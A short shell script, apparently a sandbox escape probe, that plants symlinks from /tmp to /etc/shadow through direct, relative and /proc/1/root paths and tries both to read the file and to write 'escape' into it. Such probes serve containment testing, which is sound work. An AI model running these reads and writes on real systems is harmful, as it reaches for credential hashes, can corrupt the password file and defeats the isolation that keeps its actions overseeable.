# Plants links to the host's files where it may write, and reads and writes through them.
cd /tmp || exit 1
for target in /etc/shadow ../../../etc/shadow /proc/1/root/etc/shadow /proc/self/root/../etc/shadow; do
    ln -sfn "$target" link
    if read -r line 2>/dev/null <link; then echo "$target REACHED"; fi
    if echo escape 2>/dev/null >link; then echo "$target written REACHED"; fi
done
ln -sfn / root
cd root && cd .. && pwd -P
[ -e root/etc/shadow ] && echo "shadow REACHED"
echo done
